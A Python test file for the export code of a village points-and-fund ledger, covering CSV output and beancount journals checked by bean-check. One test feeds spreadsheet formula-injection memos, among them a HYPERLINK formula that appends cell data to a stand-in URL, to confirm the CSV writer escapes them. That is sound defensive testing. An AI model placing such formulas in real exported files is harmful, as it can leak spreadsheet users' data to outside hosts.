"""Export: a CSV for spreadsheets and a beancount journal that bean-check accepts as balanced."""
from __future__ import annotations

import csv
import re
import subprocess
import sys
from collections import defaultdict
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from beancount import loader
from beancount.core import account as bc_account
from beancount.core.data import Balance, Open, Transaction
from click.testing import CliRunner
from sqlalchemy import func, select, text

from ledger import accounts, banks, reversals
from ledger.export import write_beancount, write_csv
from ledger.models import CNY, PTS, Account, Transfer
from ledger.posting import Draft, post
from tests.conftest import HOUSEHOLD_RULES, NOW
from zongzhi import cli

BEAN_CHECK = Path(sys.executable).with_name("bean-check")

CSV_HEADER = ["seq", "id", "ledger", "occurred_on", "recorded_at", "recorded_by", "kind", "debit",
              "credit", "amount", "rule", "rule_version", "resident", "resident_name", "memo",
              "reverses", "hash", "prev_hash"]

RARE_MEMO = '他说"带上手电" \\ C:\\村委\\名单\n第二行\r\n第三行\t制表 𠮷 䶮'


@dataclass
class Village:
    bank: object
    zhang: object
    li: object
    wang: object
    zhangs: object  # 张三 and 李四's household
    patrol: list
    cleanup: object
    penalty: object
    reversal: object
    household_deed: object
    grant: object
    purchase: object


def _money(session, bank, debit, credit, fen, on, clock):
    # No money service exists yet; the posting function is the one door every wing will use.
    src = accounts.system_account(session, bank.id, CNY, debit)
    dst = accounts.system_account(session, bank.id, CNY, credit)
    [[t]] = post(session, bank.id, [Draft(CNY, src.id, dst.id, fen, "grant", on)],
               by="test", clock=clock)
    session.commit()
    return t


@pytest.fixture
def village(make, session, clock):
    bank = make.bank()
    zhangs = make.household(bank, code="A01", name="张家")
    zhang = make.resident(bank, name="张三", household=zhangs)
    li = make.resident(bank, name="李四", household=zhangs)
    wang = make.resident(bank, name="王五")
    patrol = make.deed(bank, "patrol", [zhang, li, wang], quantity=3, occurred_on=date(2026, 10, 1),
                       memo="夜巡三小时").transfers
    [cleanup] = make.deed(bank, "cleanup", [wang], occurred_on=date(2026, 10, 3)).transfers
    [penalty] = make.deed(bank, "litter", [li], occurred_on=date(2026, 10, 5), memo="河边倒垃圾").transfers
    reversal = reversals.reverse_transfer(session, bank, cleanup.id, reason="登记错人", by="test",
                                          clock=clock)
    # From here on the village keeps points per household (以户为单位).
    banks.load_rules(session, bank, HOUSEHOLD_RULES, source_name="household.yaml", by="test",
                     clock=clock)
    [household_deed] = make.deed(bank, "cleanup", [zhang], occurred_on=date(2026, 10, 14)).transfers
    grant = _money(session, bank, "source:town", "fund", 125000, date(2026, 9, 30), clock)
    purchase = _money(session, bank, "fund", "spent:goods", 1205, date(2026, 10, 10), clock)
    return Village(bank, zhang, li, wang, zhangs, patrol, cleanup, penalty, reversal,
                   household_deed, grant, purchase)


def _export_beancount(session, bank, path):
    with open(path, "w", encoding="utf-8", newline="") as out:
        return write_beancount(session, bank, out)


def _bean_check(path):
    return subprocess.run([str(BEAN_CHECK), str(path)], capture_output=True, text=True, timeout=120)


def _stored_balances(session, bank):
    return {(ledger, code): balance for ledger, code, balance in session.execute(
        select(Account.ledger, Account.code, Account.balance).where(Account.bank_id == bank.id))}


def _units(ledger, stored):
    """Return a stored balance in beancount units: points as they are, fen as yuan."""
    return Decimal(stored) if ledger == PTS else Decimal(stored).scaleb(-2)


def _transfer_count(session, bank):
    return session.execute(select(func.count()).select_from(Transfer)
                           .where(Transfer.bank_id == bank.id)).scalar_one()


def _load(path):
    entries, errors, options = loader.load_file(str(path))
    assert errors == []
    return entries, options


def _opened(entries):
    """Map (ledger, account code) to the beancount account the journal opened for it."""
    return {(e.currencies[0], e.meta["code"]): e.account for e in entries if isinstance(e, Open)}


def _posted_totals(entries):
    totals = defaultdict(Decimal)
    for entry in entries:
        if isinstance(entry, Transaction):
            for posting in entry.postings:
                totals[posting.account, posting.units.currency] += posting.units.number
    return totals


def _transaction(entries, seq):
    [found] = [e for e in entries if isinstance(e, Transaction) and e.meta["seq"] == seq]
    return found


# --- beancount --------------------------------------------------------------------------------

def test_beancount_export_passes_bean_check_and_matches_balances(session, village, tmp_path):
    path = tmp_path / "hp.beancount"
    count = _export_beancount(session, village.bank, path)

    checked = _bean_check(path)
    assert (checked.returncode, checked.stderr) == (0, ""), checked.stdout + checked.stderr
    entries, options = _load(path)
    assert count == _transfer_count(session, village.bank) == 9
    assert options["title"] == "和平村综治银行"
    assert options["operating_currency"] == ["CNY"]
    opened, totals = _opened(entries), _posted_totals(entries)
    stored = _stored_balances(session, village.bank)
    assert set(opened) == set(stored)
    for (ledger, code), balance in stored.items():
        assert totals[opened[ledger, code], ledger] == _units(ledger, balance), code
    points = [n for (_, currency), n in totals.items() if currency == PTS]
    money = [n for (_, currency), n in totals.items() if currency == CNY]
    assert sum(points) == 0 and any(points)
    assert sum(money) == 0 and any(money)


def test_beancount_asserts_every_stored_balance_the_day_after_the_last_entry(session, village,
                                                                             tmp_path):
    path = tmp_path / "hp.beancount"
    _export_beancount(session, village.bank, path)
    entries, _ = _load(path)
    opened = _opened(entries)
    asserted = {e.account: (e.date, e.amount.number, e.amount.currency)
                for e in entries if isinstance(e, Balance)}
    # The reversal, posted today, is the latest entry.
    day_after = date(2026, 10, 16)
    expected = {opened[ledger, code]: (day_after, _units(ledger, b), ledger)
                for (ledger, code), b in _stored_balances(session, village.bank).items()}
    assert asserted == expected


def test_beancount_accounts_are_named_from_their_codes_and_opened_by_the_first_transfer(
        session, village, tmp_path):
    path = tmp_path / "hp.beancount"
    _export_beancount(session, village.bank, path)
    entries, _ = _load(path)
    opened = _opened(entries)
    assert opened[PTS, "issued"] == "Equity:Points:Issued"
    assert opened[PTS, "penalties"] == "Income:Points:Penalties"
    assert opened[PTS, "redeemed"] == "Income:Points:Redeemed"
    assert opened[PTS, "expired"] == "Income:Points:Expired"
    assert opened[PTS, f"resident:{village.li.id}"] == f"Liabilities:Points:Resident:R{village.li.id}"
    assert (opened[PTS, f"household:{village.zhangs.id}"]
            == f"Liabilities:Points:Household:H{village.zhangs.id}")
    assert opened[CNY, "fund"] == "Assets:Fund:Unrestricted"
    assert opened[CNY, "source:town"] == "Income:Fund:Town"
    assert opened[CNY, "source:donor"] == "Income:Fund:Donor"
    assert opened[CNY, "spent:goods"] == "Expenses:Fund:Goods"
    assert opened[CNY, "spent:projects"] == "Expenses:Fund:Projects"
    opens = [e for e in entries if isinstance(e, Open)]
    # The bank was created on 15 October; the town's grant is dated 30 September.
    assert {e.date for e in opens} == {date(2026, 9, 30)}
    names = {e.account: e.meta["name"] for e in opens}
    assert names["Assets:Fund:Unrestricted"] == "综治基金（不限用途）"
    assert names[f"Liabilities:Points:Resident:R{village.zhang.id}"] == "张三"
    assert names[f"Liabilities:Points:Household:H{village.zhangs.id}"] == "张家"


def test_beancount_transactions_carry_seq_hash_rule_and_the_doer(session, village, tmp_path):
    path = tmp_path / "hp.beancount"
    _export_beancount(session, village.bank, path)
    entries, _ = _load(path)
    patrol = village.patrol[1]
    txn = _transaction(entries, patrol.seq)
    assert (txn.date, txn.flag, txn.payee) == (date(2026, 10, 1), "*", "李四")
    assert txn.narration == "deed patrol: 夜巡三小时"
    assert (txn.meta["hash"], txn.meta["rule"], txn.meta["resident"]) == (patrol.hash, "patrol",
                                                                          village.li.id)
    assert [(p.account, p.units.number, p.units.currency) for p in txn.postings] == [
        ("Equity:Points:Issued", Decimal(-6), PTS),
        (f"Liabilities:Points:Resident:R{village.li.id}", Decimal(6), PTS)]
    penalty = _transaction(entries, village.penalty.seq)
    assert [(p.account, p.units.number) for p in penalty.postings] == [
        (f"Liabilities:Points:Resident:R{village.li.id}", Decimal(-5)),
        ("Income:Points:Penalties", Decimal(5))]


def test_a_reversal_is_dated_on_its_own_day_and_names_what_it_reverses(session, village, tmp_path):
    path = tmp_path / "hp.beancount"
    _export_beancount(session, village.bank, path)
    entries, _ = _load(path)
    original = _transaction(entries, village.cleanup.seq)
    reversal = _transaction(entries, village.reversal.seq)
    assert (original.date, reversal.date) == (date(2026, 10, 3), date(2026, 10, 15))
    assert reversal.meta["reverses"] == village.cleanup.id
    assert "reverses" not in original.meta
    assert reversal.narration == "reversal cleanup: 登记错人"
    assert [(p.account, p.units.number) for p in reversal.postings] == [
        (p.account, -p.units.number) for p in reversed(original.postings)]


def test_money_is_written_in_exact_yuan(session, village, tmp_path):
    path = tmp_path / "hp.beancount"
    _export_beancount(session, village.bank, path)
    journal = path.read_text("utf-8")
    assert "  Assets:Fund:Unrestricted -12.05 CNY\n" in journal
    assert "  Expenses:Fund:Goods 12.05 CNY\n" in journal
    assert "  Income:Fund:Town -1250.00 CNY\n" in journal
    assert " balance Assets:Fund:Unrestricted 1237.95 ~ 0.00 CNY\n" in journal


def test_a_memo_with_quotes_backslashes_newlines_and_rare_characters_survives(session, make,
                                                                              tmp_path):
    bank = make.bank()
    zhang = make.resident(bank, name="𠮷田䶮")
    [deed] = make.deed(bank, "cleanup", [zhang], memo=RARE_MEMO).transfers
    path = tmp_path / "hp.beancount"
    _export_beancount(session, bank, path)

    checked = _bean_check(path)
    assert (checked.returncode, checked.stderr) == (0, ""), checked.stdout + checked.stderr
    entries, _ = _load(path)
    txn = _transaction(entries, deed.seq)
    assert txn.narration == f"deed cleanup: {RARE_MEMO}"
    assert "𠮷" in txn.narration and "䶮" in txn.narration
    assert txn.payee == "𠮷田䶮"
    csv_path = tmp_path / "hp.csv"
    with open(csv_path, "w", encoding="utf-8", newline="") as out:
        write_csv(session, bank, out)
    [row] = _read_csv(csv_path)
    assert (row["memo"], row["resident_name"]) == (RARE_MEMO, "𠮷田䶮")


@pytest.mark.parametrize("ledger, code, account, problem", [
    (PTS, "resident:{wang}", "Liabilities:Points:Resident:R{wang}", "(1 too little)"),
    # One fen: more than beancount's inferred tolerance would forgive on a two-decimal amount.
    (CNY, "fund", "Assets:Fund:Unrestricted", "(0.01 too little)"),
])
def test_a_tampered_balance_makes_bean_check_fail(app, session, village, tmp_path, ledger, code,
                                                  account, problem):
    code, account = code.format(wang=village.wang.id), account.format(wang=village.wang.id)
    with app.extensions["zongzhi.engine"].begin() as conn:
        changed = conn.execute(text("UPDATE accounts SET balance = balance + 1 "
                                    "WHERE bank_id = :bank AND ledger = :ledger AND code = :code"),
                               {"bank": village.bank.id, "ledger": ledger, "code": code})
        assert changed.rowcount == 1
    path = tmp_path / "hp.beancount"
    _export_beancount(session, village.bank, path)

    checked = _bean_check(path)
    assert checked.returncode != 0
    report = checked.stdout + checked.stderr
    assert f"Balance failed for '{account}'" in report
    assert problem in report
    assert report.count("Balance failed") == 1


def test_an_account_with_an_unforeseen_code_still_exports_under_a_valid_name(session, make, clock,
                                                                             tmp_path):
    bank = make.bank()
    odd = ["reward:季度 奖", "foo:bar", "foo-bar", "中文", "-x", "9lives"]
    for code in odd:
        session.add(Account(bank_id=bank.id, ledger=PTS, code=code, name=code, kind="system"))
    session.add(Account(bank_id=bank.id, ledger=CNY, code="foo:bar", name="同名", kind="system"))
    session.commit()
    ids = dict(session.execute(select(Account.code, Account.id).where(
        Account.bank_id == bank.id, Account.ledger == PTS)).all())
    post(session, bank.id, [Draft(PTS, ids["foo:bar"], ids["foo-bar"], 4, "adjust", clock.today())],
         by="test", clock=clock)
    session.commit()
    path = tmp_path / "hp.beancount"
    _export_beancount(session, bank, path)

    checked = _bean_check(path)
    assert (checked.returncode, checked.stderr) == (0, ""), checked.stdout + checked.stderr
    entries, _ = _load(path)
    opened = _opened(entries)
    fallbacks = [opened[PTS, code] for code in odd] + [opened[CNY, "foo:bar"]]
    assert len(set(fallbacks)) == len(fallbacks)
    assert all(bc_account.is_valid(name) and name.startswith("Equity:Other:") for name in fallbacks)
    assert all(name.isascii() for name in opened.values())
    # A parent account's balance would count its children, so no name may nest under another.
    assert not [(a, b) for a in opened.values() for b in opened.values() if b.startswith(a + ":")]


def test_an_empty_bank_exports_a_journal_of_zero_balances(session, make, tmp_path):
    bank = make.bank()
    path = tmp_path / "hp.beancount"
    assert _export_beancount(session, bank, path) == 0

    checked = _bean_check(path)
    assert (checked.returncode, checked.stderr) == (0, ""), checked.stdout + checked.stderr
    entries, _ = _load(path)
    balances = [e for e in entries if isinstance(e, Balance)]
    assert len(balances) == len(_stored_balances(session, bank)) == len(accounts.SYSTEM_ACCOUNTS)
    assert {(e.date, e.amount.number) for e in balances} == {(date(2026, 10, 16), 0)}


# --- CSV --------------------------------------------------------------------------------------

def _run_cli(monkeypatch, database_url, *args):
    """Invoke the command line on the test's database."""
    monkeypatch.setenv("ZONGZHI_DATABASE_URL", database_url)
    return CliRunner().invoke(cli.main, list(args))


def _read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        reader = csv.DictReader(f)
        assert reader.fieldnames == CSV_HEADER
        return list(reader)


def test_csv_lists_every_transfer_in_seq_order_with_integer_amounts(session, village, tmp_path):
    path = tmp_path / "hp.csv"
    with open(path, "w", encoding="utf-8", newline="") as out:
        count = write_csv(session, village.bank, out)

    assert path.read_bytes().startswith(b"\xef\xbb\xbfseq,id,ledger,")
    rows = _read_csv(path)
    assert count == len(rows) == _transfer_count(session, village.bank) == 9
    assert [int(r["seq"]) for r in rows] == list(range(1, 10))
    assert all(re.fullmatch(r"[1-9][0-9]*", r["amount"]) for r in rows)
    by_seq = {int(r["seq"]): r for r in rows}
    patrol = by_seq[village.patrol[0].seq]
    assert patrol == {
        "seq": str(village.patrol[0].seq), "id": str(village.patrol[0].id), "ledger": "PTS",
        "occurred_on": "2026-10-01", "recorded_at": NOW.isoformat(), "recorded_by": "test",
        "kind": "deed", "debit": "issued", "credit": f"resident:{village.zhang.id}", "amount": "6",
        "rule": "patrol", "rule_version": "1", "resident": str(village.zhang.id),
        "resident_name": "张三", "memo": "夜巡三小时", "reverses": "",
        "hash": village.patrol[0].hash, "prev_hash": village.patrol[0].prev_hash}
    reversal = by_seq[village.reversal.seq]
    assert (reversal["kind"], reversal["reverses"], reversal["memo"]) == (
        "reversal", str(village.cleanup.id), "登记错人")
    assert (reversal["debit"], reversal["credit"]) == (f"resident:{village.wang.id}", "issued")
    purchase = by_seq[village.purchase.seq]
    assert (purchase["ledger"], purchase["amount"], purchase["debit"], purchase["credit"]) == (
        "CNY", "1205", "fund", "spent:goods")
    assert (purchase["rule"], purchase["resident"], purchase["resident_name"]) == ("", "", "")
    household_deed = by_seq[village.household_deed.seq]
    assert (household_deed["credit"], household_deed["rule_version"]) == (
        f"household:{village.zhangs.id}", "2")
    assert all(r["prev_hash"] == prev["hash"] for prev, r in zip(rows, rows[1:]))


def test_export_command_writes_the_csv_file(session, village, database_url, monkeypatch,
                                            tmp_path):
    path = tmp_path / "out" / "hp.csv"
    path.parent.mkdir()
    result = _run_cli(monkeypatch, database_url, "export", "hp", "--format", "csv", "-o", str(path))

    assert result.exit_code == 0, result.output
    assert f"9 transfers written to {path}" in result.stderr
    rows = _read_csv(path)
    assert [int(r["seq"]) for r in rows] == list(range(1, 10))
    assert {r["resident_name"] for r in rows} == {"张三", "李四", "王五", ""}


def test_export_command_writes_a_journal_bean_check_accepts(session, village, database_url,
                                                            monkeypatch, tmp_path):
    path = tmp_path / "hp.beancount"
    result = _run_cli(monkeypatch, database_url, "export", "hp", "--format", "beancount",
                      "-o", str(path))

    assert result.exit_code == 0, result.output
    checked = _bean_check(path)
    assert (checked.returncode, checked.stderr) == (0, ""), checked.stdout + checked.stderr


def test_export_command_refuses_an_unknown_bank_and_writes_no_file(session, village, database_url,
                                                                   monkeypatch, tmp_path):
    path = tmp_path / "nope.csv"
    result = _run_cli(monkeypatch, database_url, "export", "nope", "--format", "csv", "-o", str(path))

    assert result.exit_code == 1
    assert "找不到该银行" in result.stderr
    assert not path.exists()


def test_csv_quotes_text_a_spreadsheet_would_take_for_a_formula_and_keeps_numbers(session, make, clock,
                                                                                  tmp_path, backend):
    bank = make.bank()
    memos = ['=HYPERLINK("http://x"&A1,"y")', "+1", "-2", "@SUM(A1)", "\t=1", "坏\x01字"]
    if backend["name"] == "sqlite":
        memos.append("空\x00字")
    src = accounts.system_account(session, bank.id, CNY, "source:town")
    dst = accounts.system_account(session, bank.id, CNY, "fund")
    post(session, bank.id, *([Draft(CNY, src.id, dst.id, 100, "grant", date(2026, 10, 1), memo=m)] for m in memos),
         by="test", clock=clock)
    session.commit()
    path = tmp_path / "hp.csv"
    with open(path, "w", encoding="utf-8", newline="") as out:
        write_csv(session, bank, out)
    rows = _read_csv(path)
    written = [r["memo"] for r in rows if r["memo"]]
    expected = ["'" + m for m in memos[:5]] + ["坏\ufffd字"] + (["空\ufffd字"] if len(memos) > 6 else [])
    assert written == expected
    assert all(r["amount"] == "100" for r in rows)
